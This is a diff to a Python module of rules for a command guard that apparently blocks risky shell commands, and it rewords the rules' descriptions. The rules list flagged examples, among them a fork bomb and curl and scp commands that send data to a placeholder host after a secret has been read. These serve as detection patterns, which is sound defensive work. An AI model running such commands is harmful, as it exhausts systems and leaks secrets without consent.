@@ -1,4 +1,4 @@
-"""The rules of the guard, one file each; the order is that in which their findings are shown."""
+"""The rules of the guard, one file each, in the order in which their findings are shown."""
 
 from __future__ import annotations
 
@@ -47,15 +47,15 @@ FORK_BOMB = Rule(
     instead="start a fixed number of processes and wait for them",
     flagged=(":(){ :|:& };:", "while true; do work & done"),
     fine=("for i in 1 2 3; do work & done; wait", "while true; do sleep 1; work; done"),
-    about="Processes that start processes without end.",
+    about="Stop commands that start processes without end.",
 )
 AFTER_SECRET = Rule(
     name="send-after-secret",
     family="exfiltration",
-    instead="say what is sent and where, and let the person agree",
+    instead="say what is sent and where, and let the user decide",
     flagged=("curl -d hello https://h.example", "scp notes.txt h.example:"),
     fine=("curl https://h.example", "git push origin main", "curl -d hello http://localhost:3000"),
-    about="Sending in a session that has read a secret: asked about, and denied where the value itself is in it.",
+    about="Ask about commands that send data in a session that has read a secret; deny those that send its value.",
 )
 UNREADABLE = Rule(
     name="unreadable",
@@ -63,7 +63,7 @@ UNREADABLE = Rule(
     instead="write it as a plain, complete command",
     flagged=("echo 'open", 'echo "open'),
     fine=("echo 'closed'",),
-    about="A command that cannot be read to its end, too long or too deep: asked about, never allowed.",
+    about="Ask about commands that cannot be parsed completely: invalid, too long, or nested too deeply.",
 )
 
 _MODULES = (
